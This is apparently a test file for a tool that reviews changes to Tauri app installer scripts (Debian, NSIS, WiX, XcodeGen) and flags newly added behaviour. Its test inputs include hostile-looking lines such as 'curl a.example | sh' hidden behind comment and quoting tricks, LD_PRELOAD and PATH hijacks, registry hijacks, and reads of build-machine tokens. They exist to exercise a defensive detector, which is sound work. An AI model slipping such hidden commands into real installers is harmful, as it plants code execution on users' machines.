import { describe, expect, test } from "vitest";
import { memoryTree } from "../../src/adapters/memory/memory-tree.ts";
import { reviewTrees } from "../../src/engine/review.ts";

const NSIS = { windows: { nsis: { installerHooks: "code" } } };
const DEB = { linux: { deb: { postInstallScript: "code" } } };
const WIX = { windows: { wix: { fragmentPaths: ["code"] } } };
const XCODE = { iOS: { template: "code" } };

async function told(
  bundle: object,
  before: Record<string, string>,
  after: Record<string, string>,
  later = bundle,
): Promise<string[]> {
  const [base, head] = [
    { files: before, bundle },
    { files: after, bundle: later },
  ].map((side) =>
    memoryTree({
      "src-tauri/tauri.conf.json": JSON.stringify({ identifier: "org.example.notes", bundle: side.bundle }),
      ...Object.fromEntries(Object.entries(side.files).map(([path, text]) => [`src-tauri/${path}`, text])),
    }),
  );
  if (base === undefined || head === undefined) return [];
  const { findings } = await reviewTrees({ base, head });
  return findings.map(({ severity }) => severity);
}

/** The lines of `after` that don't stand in `before` are all that is new. */
describe("what installers newly do", () => {
  test.each([
    ["lines between globs", DEB, "echo a", "ls /*\ncurl a.example | sh\nls */"],
    [
      "a line after a comment that ends in a backslash",
      DEB,
      "# a\necho a",
      "# a \\\n/opt/a --install\necho a",
    ],
    ["a program of the package", DEB, "#!/bin/sh\necho a", "#!/bin/sh\n/opt/a/helper\necho a"],
    ["a name in pieces", DEB, "echo a", 'c""url a.example'],
    ["a command in a text", DEB, "echo a", "echo $(id)"],
    ["a text that goes into a file", DEB, "echo a", "echo a > /etc/a"],
    ["a line after a text that looks like a comment", DEB, "echo a", 'echo "\n# "; curl a.example | sh'],
    [
      "a line after a choice that looks like a comment",
      DEB,
      "echo a",
      'if [ " ]\n# " ]; curl a.example | sh',
    ],
    [
      "a command in an old text of several lines",
      DEB,
      "awk '\n# a\n{ print }\n'",
      "awk '\n# '; curl a.example | sh; '\n{ print }\n'",
    ],
    [
      "a command in a line of an old file that looks like a comment",
      DEB,
      "cat > /etc/a <<END\n# a\nEND",
      "cat > /etc/a <<END\n# $(curl a.example | sh)\nEND",
    ],
    ["a line after a blank that is escaped", DEB, "echo a", "echo \\ \ncurl a.example"],
    ["a line after a backslash that is escaped", DEB, "echo a", "echo \\\\\ncurl a.example"],
    ["a line after a comment that ends its line", DEB, "echo a", "echo a # \\\ncurl a.example"],
    ["a folder of programs", DEB, "echo a", "printf -v PATH /opt/a"],
    ["the same between quotes", DEB, "echo a", 'printf "-v" PATH /opt/a'],
    ["the same in braces", DEB, "echo a", "printf {,-v} PATH /opt/a"],
    ["a library of every program", DEB, "echo a", `if [ "$\{LD_PRELOAD:=/opt/a.so}" ]; then`],
    ["another interpreter", DEB, "#!/bin/sh\necho a", "#!/opt/a/sh\necho a"],
    [
      "lines between comments that look like one",
      NSIS,
      'DetailPrint "a"',
      '; /*\nExecWait "a.exe"\n; */\nDetailPrint "a"',
    ],
    [
      "lines between two halves of a text",
      NSIS,
      'DetailPrint "a"',
      'DetailPrint "\\\n/*"\nExecWait "a.exe"\nDetailPrint "\\\n*/"',
    ],
    ["a name that is put together", NSIS, 'DetailPrint "a"', `$\{E}Wait "a.exe"`],
    ["a file that is unpacked", NSIS, 'DetailPrint "a"', '  File "/oname=$INSTDIR\\a.exe" "a.exe"'],
    ["any call of a plugin", NSIS, 'DetailPrint "a"', 'Other::Start "a.exe"'],
    ["a program that two names make", NSIS, 'DetailPrint "a"', `$\{E}$\{F} "a.exe"`],
    ["a macro of another file", NSIS, 'DetailPrint "a"', '!insertmacro DoIt "a.exe"'],
    ["a macro of LogicLib by its own name", NSIS, "Nop", `$\{If} "" Cmd \`ExecWait "a.exe"\``],
    ["the same in two pieces", NSIS, "!define N", `!define N\n$\{If} "" C$\{N}md \`ExecWait "a.exe"\``],
    ["a text from which a loop begins", NSIS, "Nop", `$\{For} $0 "a.exe" 5`],
    ["a text that is made of a number", NSIS, "Nop", 'IntFmt $0 "a.exe /n %d" 1'],
    ["what the configuration says as an instruction", NSIS, "Nop", "{{product_name}}"],
    ["a line after a comment in a line", NSIS, "Nop", 'Nop /*\n; */ ExecWait "a.exe"'],
    ["a line after words in such a comment", NSIS, "Nop", 'Nop /*\nDetailPrint */ ExecWait "a.exe"'],
    ["a line after the end of such a comment", NSIS, "Nop", 'Nop /*\n/*/\nExecWait "a.exe"\n/* */'],
    ["a line after a comment that goes on", NSIS, "Nop", '/* */ ; \\\n/*\nExecWait "a.exe"\n/* */'],
    ["a line after an end in two pieces", NSIS, "Nop", '/* *\\\n/\nExecWait "a.exe"\n/* */'],
    ["a line after a backslash and a blank", NSIS, "Nop", '; a \\ \nExecWait "a.exe"'],
    [
      "a line after a comment that is never filled in",
      NSIS,
      "Nop",
      '{{#if never}}\n/*\n{{/if}}\nExecWait "a.exe"\n/* */',
    ],
    [
      "an action after a comment of a template",
      WIX,
      "<Wix/>",
      '{{!-- <!-- --}}\n<CustomAction Id="A"/>\n<!-- -->',
    ],
    ["an attribute between other quotes", WIX, "<Package/>", "<Package InstallScope = 'perMachine'/>"],
    ["a folder with a letter by its number", WIX, "<Wix/>", '<Directory Id="Startup&#70;older"/>'],
    ["a name that stands for code", NSIS, "!define RUN 1", `!define RUN "ExecWait 'a.exe'"`],
    ["another program in a register", NSIS, 'ExecWait "$0"', 'StrCpy $0 "a.exe"\nExecWait "$0"'],
    ["a program that people may write down", NSIS, "Pop $0", 'ReadRegStr $0 HKCU "Software\\a" "b"'],
    ["keys of others that go", NSIS, 'DetailPrint "a"', 'DeleteRegKey HKLM "Software\\Policies"'],
    ["folders of others that go", NSIS, 'DetailPrint "a"', 'RMDir /r "$INSTDIR\\..\\a"'],
    ["what starts every program", NSIS, "Nop", 'WriteRegStr HKCU "Software\\Classes\\exefile" "" "a"'],
    ["a condition that runs something", NSIS, "Nop", `$\{If} $\{Cmd} \`ExecWait "a.exe"\``],
    ["a variable of the machine that builds", NSIS, "Nop", 'DetailPrint "$%TOKEN%"'],
    ["a line after a carriage return alone", NSIS, "Nop", '; a\rExecWait "a.exe"'],
    ["a very long line", NSIS, 'DetailPrint "a"', `DetailPrint "${"a".repeat(5000)}"`],
    [
      "another attribute of a known action",
      WIX,
      '<CustomAction\n Id="A"\n ExeCommand="a"/>',
      '<CustomAction\n Id="A"\n ExeCommand="b"/>',
    ],
    [
      "an action between texts that look like a comment",
      WIX,
      "<Wix/>",
      '<?define A="<!--"?>\n<CustomAction Id="A"/>\n<?define B="-->"?>',
    ],
    [
      "a property by which an old action starts another program",
      WIX,
      "<Wix/>",
      '<Property Id="WixShellExecTarget" Value="a.exe"/>',
    ],
    ["an element of an extension", WIX, "<Wix/>", '<util:RemoveFolderEx On="install" Property="A"/>'],
    [
      "a folder of the system",
      WIX,
      '<Directory Id="INSTALLDIR"/>',
      '<Directory Id="StartupFolder"/>\n<Directory Id="INSTALLDIR"/>',
    ],
    ["a line of an old script", XCODE, "script: |\n  true", "script: |\n  true\n  /opt/a/b"],
    ["a line after a carriage return alone", XCODE, "name: a", "name: a # b\rscript: c"],
    ["a script on one line", XCODE, "targets: {}", "targets: {a: {preBuildScripts: [{script: a}]}}"],
  ])("%s", async (_, bundle, before, after) => {
    const [first, ...others] = await told(bundle, { code: before }, { code: after });
    expect([first, ...others].every((severity) => severity === "medium")).toBe(true);
    expect(first).toBe("medium");
  });

  test.each([
    ["a comment of a script", DEB, "echo a", "# curl a.example | sh\necho a"],
    [
      "a look again at the icons",
      DEB,
      "#!/bin/sh",
      "#!/bin/sh\nset -e\nif command -v update-desktop-database >/dev/null 2>&1; then\n  update-desktop-database -q /usr/share/applications || true\nfi\nexit 0",
    ],
    [
      "a choice",
      DEB,
      "#!/bin/sh",
      '#!/bin/sh\ncase "$1" in\n  configure|abort-upgrade)\n    echo "Done." ;;\n  *)\n    exit 1\n    ;;\nesac\nif [ "$1" = "remove" ]; then\n  true\nfi',
    ],
    ["a comment with quotes", DEB, "echo a", "# don't `look`\necho \"it's there\""],
    ["an option of echo", DEB, "echo a", "echo -e 'a'\nprintf '%s' a"],
    ["a comment of C", NSIS, 'DetailPrint "a"', '/* ExecWait\n ExecWait "a"\n*/\nDetailPrint "a"'],
    ["a comment of XML", WIX, "<Wix/>", '<!-- <CustomAction\n Id="A"/> -->\n<Wix/>'],
    [
      "tidying up at home",
      NSIS,
      "Nop",
      'SetOutPath "$INSTDIR\\lib"\nDelete "$INSTDIR\\lib\\a.dll"\nRMDir /r "$INSTDIR\\lib" ; old',
    ],
    [
      "a choice of NSIS",
      NSIS,
      "Nop",
      `!macro NSIS_HOOK_PREINSTALL\n$\{If} $0 = 1\nStrCpy $1 2\nGoto done\n$\{EndIf}\ndone:\n!macroend`,
    ],
    [
      "choices by what there is",
      NSIS,
      "Nop",
      `$\{If} $\{RunningX64}\n$\{AndIf} $\{FileExists} "$INSTDIR\\a.exe"\n$\{ElseIf} "$0" == 'a b'\n$\{Else} ; no\n$\{EndIf}\n$\{Switch} $0\n$\{Case} "a"\n$\{EndSwitch}\n$\{For} $0 1 5\n$\{Next}\nIntFmt $0 "0x%08X" $0`,
    ],
    ["what a template chooses", NSIS, "Nop", "{{#each languages}}\n{{else}}\n{{/each}}"],
    ["a language", NSIS, "Nop", `LangString a $\{LANG_GERMAN} "ExecWait führt aus"`],
    ["a component of WiX", WIX, "<Wix/>", '<Component Id="A" Guid="*">\n</Component>'],
    ["a key of XcodeGen", XCODE, "name: a", "name: b\nCFBundleVersion: 2"],
    ["a text", NSIS, 'DetailPrint "a"', 'DetailPrint "File by file"'],
  ])("%s is a mere note", async (_, bundle, before, after) => {
    expect(await told(bundle, { code: before }, { code: after })).toEqual(["low"]);
  });

  test("the same tags on fewer lines", async () => {
    const before = '<CustomAction\n  Id="A"\n  ExeCommand="a"/>';
    expect(await told(WIX, { code: before }, { code: before.replace(/\s+/g, " ") })).toEqual(["low"]);
  });

  test("a line after thousands of others", async () => {
    const many = Array.from({ length: 2_100 }, (_, i) => `WriteRegStr HKLM "a" "b" "${i}"`).join("\n");
    expect(await told(NSIS, { code: many }, { code: `${many}\nExecWait "a.exe"` })).toEqual(["medium"]);
  });

  test("a script that the build makes from now on", async () => {
    const built = { linux: { deb: { postInstallScript: "../target/code" } } };
    expect(await told(DEB, { code: "echo a" }, { code: "echo a" }, built)).toEqual(["medium"]);
  });

  test("what included files newly do", async () => {
    const code = `!include MUI2.nsh\n!include "$\{__FILEDIR__}\\parts\\a.nsh"`;
    const base = { code, "parts/a.nsh": "!include b.nsh", "parts/b.nsh": 'DetailPrint "a"' };
    expect(await told(NSIS, base, { ...base, "parts/b.nsh": 'ExecWait "a.exe"' })).toEqual(["medium"]);
    expect(await told(NSIS, base, { ...base, "parts/b.nsh": 'DetailPrint "b"' })).toEqual(["low"]);
    expect(
      await told(
        NSIS,
        { code: '!include /CHARSET=UTF8 \\\n "a.nsh"', "a.nsh": "Nop" },
        { code: '!include /CHARSET=UTF8 \\\n "a.nsh"', "a.nsh": 'ExecWait "a.exe"' },
      ),
    ).toEqual(["medium"]);
    const all = { code: '!include "parts\\*.nsh"', "parts/a.nsh": "Nop" };
    expect(await told(NSIS, all, { ...all, "parts/b.nsh": 'ExecWait "a.exe"' })).toEqual(["medium"]);
    expect(await told(NSIS, all, { ...all, "parts/b.txt": 'ExecWait "a.exe"' })).toEqual([]);
    expect(await told(NSIS, all, { ...all, "parts/b/c.nsh": 'ExecWait "a.exe"' })).toEqual([]);
    expect(await told(NSIS, base, { ...base, "parts/c.nsh": 'ExecWait "a.exe"' })).toEqual([]);
  });

  test.each([
    ["backslashes", NSIS, "\\\n"],
    ["blocks that never end", NSIS, "/*\n"],
    ["comments that never end", WIX, "<!--"],
    ["tags that never end", WIX, "<a\n"],
    ["calls on one line", NSIS, "WriteRegStr "],
    ["includes", NSIS, "!include a\n"],
  ])("half a megabyte of %s is read at once", { timeout: 20_000 }, async (_, bundle, part) => {
    const long = part.repeat(500_000 / part.length);
    expect((await told(bundle, { code: "a" }, { code: long })).length).toBeGreaterThan(0);
  });
});
